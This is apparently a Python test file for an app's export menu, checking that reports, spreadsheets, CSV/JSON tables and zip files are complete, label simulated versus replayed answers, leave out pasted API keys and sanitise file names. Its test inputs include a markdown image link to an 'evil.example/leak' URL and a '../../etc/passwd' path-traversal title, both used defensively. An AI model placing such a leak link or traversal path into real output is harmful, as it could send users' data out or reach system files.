"""The export popover: every file can be made, from what the store holds, whatever state the runs are in."""

import asyncio
import csv
import io
import json
import zipfile
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from types import SimpleNamespace

import openpyxl
import pytest
from streamlit.runtime.backend_operation_handler import DeferredFileHandler
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from lib.tickets import TicketSet, guess_columns, read_table, to_tickets
from lib.ui import downloads, export_menu, state
from tests.pages import seeds
from tests.pages.conftest import TIMEOUT


def _page():
    from lib.ui import export_menu, state

    state.enter()
    export_menu.menu("run", state.group())


@pytest.fixture
def both(store, sample):
    return [seeds.add_run(store, sample.tickets, sample.id, shape) for shape in ("pipeline", "agent")]


@pytest.fixture
def export(store, both):
    return export_menu.Export(store, [run.id for run in both])


def test_the_popover_offers_every_file_and_a_press_starts_nothing(both):
    app = AppTest.from_function(_page, default_timeout=TIMEOUT)
    app.query_params["run"] = "g1"
    app.run()
    assert not app.exception
    keys = [button.key for button in app.get("download_button")]
    assert keys == [f"run.export.{what}" for what in (
        "report.html", "report.md", "tables.xlsx", "runs.csv", "runs.json", "causes.csv", "causes.json",
        "customers.csv", "customers.json", "labels.csv", "labels.json",
        "checks.csv", "checks.json", "calls.csv", "calls.json", "code.zip", "recording.json.gz")]
    assert all(button.proto.ignore_rerun for button in app.get("download_button"))


def test_the_code_is_that_of_the_runs_design_with_its_data(export):
    files = zipfile.ZipFile(io.BytesIO(export.code()))
    run = export.runs[0]
    assert f"version {state.design_of(run).version}" in files.read("take_home/run.py").decode()
    assert TicketSet.from_json(files.read("take_home/tickets.json").decode()) == state.stored_data(run.data_id).tickets


def test_there_is_no_popover_without_a_run(playground):
    app = AppTest.from_function(_page, default_timeout=TIMEOUT).run()
    assert not app.exception and len(app.get("download_button")) == 0


def test_the_tables_hold_the_same_in_every_format(export):
    book = openpyxl.load_workbook(io.BytesIO(export.workbook()))
    assert book.sheetnames == list(export_menu.TABLES)
    for name in export_menu.TABLES:
        told = list(csv.reader(io.StringIO(export.table(name, "csv").decode("utf-8-sig"), newline="")))
        rows = json.loads(export.table(name, "json"))
        assert told[0] == list(rows[0]) == [cell.value for cell in book[name][1]]
        assert len(told) - 1 == len(rows) == book[name].max_row - 1, name
    assert len(json.loads(export.table("calls", "json"))) == 46 + 40
    assert isinstance(book["calls"]["Q2"].value, float)      # usd


def test_every_table_says_what_answered(store, sample):
    """A sheet is sent on without the report: nobody shall take simulated answers for a model's."""
    seeds.add_run(store, sample.tickets, sample.id, "pipeline")
    seeds.add_run(store, sample.tickets, sample.id, "agent", source="replay", origin="live · API · recorded 2026-11-12")
    export = export_menu.Export(store, ["g1-pipeline", "g1-agent"])
    for name in set(export_menu.TABLES) - {"labels", "calls", "runs"}:
        told = {row["shape"]: row["source"] for row in json.loads(export.table(name, "json"))}
        assert told == {"pipeline": "simulated", "agent": "replay: live · API · recorded 2026-11-12"}, name
    label = json.loads(export.table("labels", "json"))[0]
    assert label["pipeline_source"] == "simulated" and label["agent_source"].startswith("replay: live")
    pipeline, agent = json.loads(export.table("runs", "json"))
    assert (pipeline["source"], pipeline["calls"], pipeline["models"]) == ("simulated", 46, ["claude-haiku-5-5"])
    assert (agent["source"], agent["usd_spent"], agent["first_answered"]) == (
        "replay", 0.0, "live · API · recorded 2026-11-12")


def test_the_reports_tell_the_runs_and_no_remote_thing_is_live_in_them(export):
    page, text = export.html().decode(), export.markdown().decode()
    assert "duplicate charge" in page and "duplicate charge" in text
    assert "![x](https://evil.example" in page and "<img" not in page
    assert r"\!\[x\]" in text or "`![x](https://evil.example/leak?q=1)`" in text


def test_a_key_that_somebody_pasted_is_in_no_file(store, sample):
    key = "sk-ant-api03-CANARY_0-canary"
    run = seeds.add_run(store, sample.tickets, sample.id, "agent", error=f"refused {key}", partial=f"ended: {key}",
                        status="failed", failed={sample.tickets.tickets[0].key: key}, note=f"{key}x")
    store.update_run(run.id, title=f"{key} · d")
    export = export_menu.Export(store, [run.id])
    files = [export.html(), export.markdown(),
             *(export.table(name, kind) for name in export_menu.TABLES for kind in ("csv", "json"))]
    book = openpyxl.load_workbook(io.BytesIO(export.workbook()))
    cells = [cell.value for sheet in book for row in sheet for cell in row]
    assert not any(b"CANARY" in data for data in files) and not any("CANARY" in str(value) for value in cells)
    assert b"a key, left out" in files[0] and b"a key, left out" in files[1]


def test_labels_read_in_again_are_the_tickets(export, sample):
    table = read_table("labels.csv", export.table("labels", "csv"))
    told = to_tickets(table, guess_columns(table))
    assert [replace(t, extra={}) for t in told.tickets] == [replace(t, extra={}) for t in sample.tickets.tickets]


@pytest.mark.parametrize("status", ["queued", "running", "stopped", "failed", "interrupted"])
def test_a_run_that_has_no_answer_can_be_exported_at_any_moment(store, sample, status):
    run = seeds.add_run(store, sample.tickets, sample.id, "pipeline", status=status)
    export = export_menu.Export(store, [run.id])
    assert b"No answer yet." in export.html() and export.markdown()
    assert json.loads(export.table("causes", "json")) == [] and len(json.loads(export.table("calls", "json"))) == 46
    assert export.table("causes", "csv").startswith(b'\xef\xbb\xbf"shape","rank","cause"')
    assert "causes" in openpyxl.load_workbook(io.BytesIO(export.workbook())).sheetnames


def test_a_run_whose_data_are_gone_still_has_its_labels(store, both):
    store.update_run(both[0].id, data_id="gone")
    found = json.loads(export_menu.Export(store, [both[0].id]).table("labels", "json"))
    assert len(found) == 31 and all(row["pipeline_cause"] for row in found)


@pytest.mark.parametrize(("title", "name"), [
    ("tickets.csv · default", "tickets-2026-11-12-report.html"),
    ("../../etc/passwd · x", "etc-passwd-2026-11-12-report.html"),
    ("Müller & Söhne.xlsx · x", "Muller-Sohne-2026-11-12-report.html"),
    ("工单.csv", "runs-2026-11-12-report.html"), (".hidden", "hidden-2026-11-12-report.html"),
    ("CON", "runs-CON-2026-11-12-report.html"), ("a\u202eb\x00.csv · x", "ab-2026-11-12-report.html"),
    ("x" * 300, "x" * 40 + "-2026-11-12-report.html"), ("", "runs-2026-11-12-report.html"),
])
def test_file_names_are_taken_by_every_system(title, name):
    run = replace(_run(), title=title)
    assert export_menu.file_name([run], "report.html") == name


def _run():
    from lib.runs.store import Run
    return Run(id="r", group="g", shape="agent", status="done", source="simulated", connection="", design={},
               data_id="", created=1794484800.0)


def test_runs_that_another_window_deleted_are_said_to_be_gone_and_the_log_has_no_traceback(store, both, caplog):
    store.delete_runs([run.id for run in both])
    downloads.log_failures_in_one_line()
    manager = MediaFileManager(MemoryMediaFileStorage("/media"))
    file_id = manager.add_deferred(lambda: export_menu.Export(store, [run.id for run in both]).recording(), None,
                                   "button", "recording.json.gz")
    asked = SimpleNamespace(request_id="1", deferred_file=SimpleNamespace(file_id=file_id))
    with ThreadPoolExecutor(1) as elsewhere:     # a browser test may have left a running loop in this thread
        answer = elsewhere.submit(asyncio.run, DeferredFileHandler(lambda: manager).handle(asked, "session")).result()
    assert answer.error_msg
    assert "A file could not be made: These runs were deleted" in caplog.text and "Traceback" not in caplog.text
